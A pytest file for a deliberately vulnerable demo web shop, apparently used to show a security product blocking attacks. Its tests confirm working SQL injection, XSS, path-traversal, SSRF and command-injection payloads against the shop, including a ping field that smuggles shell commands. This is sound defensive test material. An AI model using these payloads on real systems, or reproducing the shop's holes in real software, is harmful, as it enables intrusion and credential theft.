"""The demo shop: its flaws are real without Bastion, its benign endpoints work, its bodies repeat.

If an attack stopped working here, `bastion demo` would show Bastion "blocking" nothing.
"""

from __future__ import annotations

import http.server
import io
import sqlite3
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import ClassVar
from urllib.parse import quote

import flask
import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from bastion.demo.shop import FLAG, clean_filename, create_app

USERS_UNION = "' UNION SELECT id, username, password FROM users--"


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return tmp_path / "shop.db"


@pytest.fixture
def app(db_path: Path) -> flask.Flask:
    return create_app(str(db_path))


@pytest.fixture
def client(app: flask.Flask) -> FlaskClient:
    return app.test_client()


def text(response: TestResponse) -> str:
    return response.get_data(as_text=True)


# --- /search ------------------------------------------------------------------------------


def test_benign_search_lists_matching_products_only(client: FlaskClient) -> None:
    response = client.get("/search", query_string={"q": "shoe"})
    assert response.status_code == 200
    body = text(response)
    assert "Running shoes" in body and "89.99" in body
    assert "Rain jacket" not in body
    assert "deliberately vulnerable" in body


def test_search_union_injection_dumps_user_passwords(client: FlaskClient) -> None:
    response = client.get("/search", query_string={"q": USERS_UNION})
    assert response.status_code == 200
    body = text(response)
    assert "wonderland" in body and "builder" in body


def test_search_injection_exfiltrates_the_flag(client: FlaskClient) -> None:
    q = "' UNION SELECT 1, flag, 0 FROM secrets--"
    assert FLAG in text(client.get("/search", query_string={"q": q}))


def test_sql_error_is_a_500_with_the_escaped_sqlite_message(client: FlaskClient) -> None:
    response = client.get("/search", query_string={"q": "'"})
    assert response.status_code == 500
    body = text(response)
    assert "unrecognized token" in body
    assert "&#34;&#39;&#34;" in body  # the message is shown, but escaped


def test_search_reflects_the_query_unescaped(client: FlaskClient) -> None:
    payload = "<script>alert(1)</script>"
    body = text(client.get("/search", query_string={"q": payload}))
    assert f"Results for {payload}" in body


def test_stacked_statements_do_not_run(client: FlaskClient, db_path: Path) -> None:
    response = client.get("/search", query_string={"q": "'; DROP TABLE users--"})
    assert response.status_code == 500
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("SELECT count(*) FROM users").fetchone() == (3,)
    conn.close()


def test_runaway_injected_query_is_interrupted(client: FlaskClient) -> None:
    # 50 million rows: seconds of work unbounded, cut short by the step budget.
    q = ("' UNION SELECT 1, 'x', count(*) FROM (WITH RECURSIVE n(i) AS "
         "(SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 50000000) SELECT i FROM n)--")
    response = client.get("/search", query_string={"q": q})
    assert response.status_code == 500
    assert "interrupted" in text(response)


# --- /login -------------------------------------------------------------------------------


def test_login_with_the_right_password_sets_a_session_shown_on_home(client: FlaskClient) -> None:
    response = client.post("/login", data={"username": "alice", "password": "wonderland"})
    assert response.status_code == 200
    assert "Welcome alice" in text(response)
    assert "shop_session=" in response.headers["Set-Cookie"]
    assert "Signed in as <strong>alice</strong>" in text(client.get("/"))


def test_wrong_password_is_a_401_and_escapes_the_username(client: FlaskClient) -> None:
    response = client.post("/login", data={"username": "<b>bob</b>", "password": "nope"})
    assert response.status_code == 401
    assert "&lt;b&gt;bob&lt;/b&gt;" in text(response)
    assert "Set-Cookie" not in response.headers


@pytest.mark.parametrize("password", ["", "admin", "None", "null"])
def test_no_password_logs_in_as_admin(client: FlaskClient, password: str) -> None:
    response = client.post("/login", data={"username": "admin", "password": password})
    assert response.status_code == 401


def test_admin_comment_injection_bypasses_the_password(client: FlaskClient) -> None:
    response = client.post("/login", data={"username": "admin'--", "password": "anything"})
    assert response.status_code == 200
    assert "Welcome admin" in text(response)
    assert "Signed in as <strong>admin</strong>" in text(client.get("/"))


def test_a_tampered_session_cookie_is_ignored(client: FlaskClient) -> None:
    client.post("/login", data={"username": "bob", "password": "builder"})
    cookie = client.get_cookie("shop_session")
    assert cookie is not None
    forged = b"admin".hex() + "." + cookie.value.partition(".")[2]
    client.set_cookie("shop_session", forged)
    assert "Signed in as" not in text(client.get("/"))
    client.set_cookie("shop_session", "61.\u00e9t\u00e9")
    response = client.get("/")
    assert response.status_code == 200 and "Signed in as" not in text(response)


def test_login_form_is_served(client: FlaskClient) -> None:
    body = text(client.get("/login"))
    assert 'name="username"' in body and 'name="password"' in body


# --- /product/<id> ------------------------------------------------------------------------


def test_product_page_and_missing_product(client: FlaskClient) -> None:
    response = client.get("/product/2")
    assert response.status_code == 200
    assert "Rain jacket" in text(response) and "129.00" in text(response)
    assert client.get("/product/999").status_code == 404


def test_product_id_injection_reads_other_tables(client: FlaskClient) -> None:
    injected = "0 UNION SELECT id, username, password, email FROM users WHERE username = 'bob'"
    response = client.get("/product/" + quote(injected))
    assert response.status_code == 200
    assert "builder" in text(response)
    flag = client.get("/product/" + quote("0 UNION SELECT 1, flag, 'x', 0 FROM secrets"))
    assert FLAG in text(flag)


def test_product_review_is_reflected_unescaped(client: FlaskClient) -> None:
    payload = "<img src=x onerror=alert(1)>"
    body = text(client.get("/product/1", query_string={"review": payload}))
    assert payload in body


def test_product_text_from_the_database_is_escaped(client: FlaskClient) -> None:
    injected = "0 UNION SELECT 1, '<i>name', '<i>text', 0"
    body = text(client.get("/product/" + quote(injected)))
    assert "<i>" not in body
    assert "&lt;i&gt;name" in body and "&lt;i&gt;text" in body


# --- JSON API -----------------------------------------------------------------------------


def test_api_search_benign_and_injected(client: FlaskClient) -> None:
    benign = client.get("/api/products", query_string={"q": "sock"}).get_json()
    assert [p["name"] for p in benign["products"]] == ["Wool socks"]
    dumped = client.get("/api/products", query_string={"q": USERS_UNION}).get_json()
    assert {"id": 1, "name": "alice", "price": "wonderland"} in dumped["products"]
    # admin has no password at all: nothing random to dump, so every start dumps the same.
    assert {"id": 3, "name": "admin", "price": None} in dumped["products"]


def test_api_sql_error_is_json(client: FlaskClient) -> None:
    response = client.get("/api/products", query_string={"q": "' UNION SELECT 1--"})
    assert response.status_code == 500
    assert "same number of result columns" in response.get_json()["error"]


def test_order_is_stored_and_echoed(client: FlaskClient, db_path: Path) -> None:
    order = {"product_id": 3, "quantity": 2, "note": "gift <wrap> please"}
    response = client.post("/api/orders", json=order)
    assert response.status_code == 201
    assert response.get_json() == {**order, "product": "Water bottle", "total": 49.0}
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("SELECT product_id, quantity, note FROM orders").fetchall() == [
            (3, 2, "gift <wrap> please")]
    conn.close()


@pytest.mark.parametrize(("body", "status"), [
    ({"product_id": "3", "quantity": 1}, 400),
    ({"product_id": 3, "quantity": 0}, 400),
    ({"product_id": 3, "quantity": True}, 400),
    ({"product_id": 3, "note": 5}, 400),
    ({"product_id": 3, "note": "x" * 1001}, 400),
    ({"product_id": 10**40}, 400),
    ([3, 1], 400),
    ({"product_id": 999}, 404),
])
def test_bad_orders_are_refused(client: FlaskClient, body: object, status: int) -> None:
    assert client.post("/api/orders", json=body).status_code == status


def test_order_needs_a_json_body(client: FlaskClient) -> None:
    response = client.post("/api/orders", data="product_id=1", content_type="text/plain")
    assert response.status_code == 400


def test_upload_saves_under_a_clean_name(app: flask.Flask, client: FlaskClient) -> None:
    response = client.post("/api/upload", data={"file": (io.BytesIO(b"hello"), "../../evil.txt")},
                           content_type="multipart/form-data")
    assert response.status_code == 201
    assert response.get_json() == {"name": "evil.txt", "size": 5}
    uploads = Path(app.config["SHOP_UPLOADS"])
    assert (uploads / "evil.txt").read_bytes() == b"hello"
    assert not (uploads.parent.parent / "evil.txt").exists()


def test_upload_needs_a_file_field(client: FlaskClient) -> None:
    response = client.post("/api/upload", data={"other": "x"}, content_type="multipart/form-data")
    assert response.status_code == 400


@pytest.mark.parametrize(("name", "cleaned"), [
    ("photo.jpg", "photo.jpg"),
    ("../../etc/passwd", "passwd"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("my file (1).png", "my_file__1_.png"),
    (".htaccess", "htaccess"),
    ("..", "upload"),
    ("", "upload"),
    ("dir/", "upload"),
    ("résumé.pdf", "r_sum_.pdf"),
    ("a" * 300, "a" * 100),
])
def test_clean_filename(name: str, cleaned: str) -> None:
    assert clean_filename(name) == cleaned


def test_xml_import_previews_products(client: FlaskClient) -> None:
    xml = b'<catalog><product name="Tent" price="250"/><product name="Mat"/><x/></catalog>'
    response = client.post("/api/import", data=xml, content_type="application/xml")
    assert response.status_code == 200
    assert response.get_json() == {"root": "catalog", "elements": 4, "products": [
        {"name": "Tent", "price": "250"}, {"name": "Mat"}]}


@pytest.mark.parametrize("xml", [
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>',
    b'<!DOCTYPE r SYSTEM "http://127.0.0.1/x.dtd"><r/>',
    b"<r>&undeclared;</r>",
    b"<r><unclosed></r>",
])
def test_xml_with_a_dtd_entity_or_bad_syntax_is_refused(client: FlaskClient, xml: bytes) -> None:
    response = client.post("/api/import", data=xml, content_type="text/xml")
    assert response.status_code == 400
    assert "root:" not in text(response)


def test_xml_import_needs_an_xml_content_type(client: FlaskClient) -> None:
    response = client.post("/api/import", data=b"<r/>", content_type="application/json")
    assert response.status_code == 415


# --- home, health, setup, determinism -----------------------------------------------------


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.hrefs += [value for name, value in attrs if tag == "a" and name == "href" and value]


def test_every_home_page_link_works_and_the_attacks_succeed(client: FlaskClient) -> None:
    links = _Links()
    links.feed(text(client.get("/")))
    assert len(links.hrefs) >= 8
    bodies = []
    for href in links.hrefs:
        response = client.get(href)
        # The benign preview fetches example.com: a 502 where there is no network.
        assert response.status_code == 200 or (
            response.status_code == 502 and href.startswith("/preview?url=https")), href
        bodies.append(text(response))
    joined = "\n".join(bodies)
    assert "wonderland" in joined and FLAG in joined
    assert "root:x:0:0" in joined  # the preview read /etc/passwd
    assert "<script>alert(document.domain)</script>" in joined


def test_health(client: FlaskClient) -> None:
    response = client.get("/health")
    assert response.status_code == 200 and response.data == b"ok"


def test_without_a_path_the_database_is_a_fresh_temporary_file() -> None:
    app = create_app()
    assert Path(app.config["SHOP_DATABASE"]).is_file()
    assert "Running shoes" in text(app.test_client().get("/search", query_string={"q": "run"}))


def test_a_restart_on_the_same_file_starts_from_the_seed(db_path: Path) -> None:
    create_app(str(db_path)).test_client().post("/api/orders", json={"product_id": 1})
    create_app(str(db_path))
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("SELECT count(*) FROM orders").fetchone() == (0,)
        assert conn.execute("SELECT count(*) FROM products").fetchone() == (10,)
    conn.close()


def _requests() -> list[tuple[str, str, dict[str, object]]]:
    """One request of each kind, built afresh (an upload stream can be read once)."""
    return [
        ("GET", "/", {}),
        ("GET", "/search", {"query_string": {"q": "s"}}),
        ("GET", "/search", {"query_string": {"q": USERS_UNION}}),
        ("GET", "/search", {"query_string": {"q": "'"}}),
        ("GET", "/product/4", {"query_string": {"review": "<b>great</b>"}}),
        ("GET", "/product/404", {}),
        ("GET", "/login", {}),
        ("POST", "/login", {"data": {"username": "alice", "password": "wrong"}}),
        ("POST", "/login", {"data": {"username": "admin'--", "password": "x"}}),
        ("GET", "/api/products", {"query_string": {"q": USERS_UNION}}),
        ("POST", "/api/orders", {"json": {"product_id": 2, "quantity": 3, "note": "hi"}}),
        ("POST", "/api/upload", {"data": {"file": (io.BytesIO(b"abc"), "a.txt")},
                                 "content_type": "multipart/form-data"}),
        ("POST", "/api/import", {"data": b"<c><product name='x'/></c>",
                                 "content_type": "application/xml"}),
        ("GET", "/health", {}),
    ]


def _bodies(client: FlaskClient) -> list[tuple[int, bytes]]:
    return [(r.status_code, r.data) for r in
            (client.open(url, method=method, **kwargs) for method, url, kwargs in _requests())]


def test_bodies_repeat_on_one_instance_and_across_fresh_ones(tmp_path: Path) -> None:
    # No cookie jar: the same request each time (a session cookie would change the home page).
    first = create_app(str(tmp_path / "a.db")).test_client(use_cookies=False)
    second = create_app(str(tmp_path / "b.db")).test_client(use_cookies=False)
    once = _bodies(first)
    assert _bodies(first) == once
    assert _bodies(second) == once


# --- the sinks: a file download, a URL preview, a ping tool -------------------------------


def test_download_serves_a_file_of_the_folder(client: FlaskClient) -> None:
    response = client.get("/download", query_string={"name": "returns.txt"})
    assert response.status_code == 200
    assert "Returns are free within 30 days." in text(response)
    assert "deliberately vulnerable" in text(response)


def test_download_traversal_reads_the_secret_beside_the_folder(client: FlaskClient) -> None:
    assert FLAG in text(client.get("/download", query_string={"name": "../secret.txt"}))


def test_download_of_a_missing_file_is_a_404(client: FlaskClient) -> None:
    response = client.get("/download", query_string={"name": "nope.txt"})
    assert response.status_code == 404
    assert "cannot read nope.txt" in text(response)


class _Internal(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Internal.hits.append(self.path)
        body = b"internal-only configuration"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def internal_service() -> Iterator[str]:
    server = http.server.HTTPServer(("127.0.0.1", 0), _Internal)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_preview_fetches_an_internal_address(client: FlaskClient, internal_service: str) -> None:
    _Internal.hits.clear()
    response = client.get("/preview", query_string={"url": internal_service + "/admin"})
    assert response.status_code == 200
    assert "internal-only configuration" in text(response)
    assert _Internal.hits == ["/admin"]


def test_preview_of_an_unreachable_url_is_a_502(client: FlaskClient) -> None:
    response = client.get("/preview", query_string={"url": "http://127.0.0.1:9/"})
    assert response.status_code == 502
    assert "cannot fetch" in text(response)


def test_ping_runs_an_injected_command(client: FlaskClient, tmp_path: Path) -> None:
    marker = tmp_path / "injected"
    response = client.get("/ping", query_string={"host": f"127.0.0.1; touch {marker}; "
                                                         "echo INJECTED-$((6*7))"})
    assert response.status_code == 200
    assert "INJECTED-42" in text(response)
    assert marker.exists()
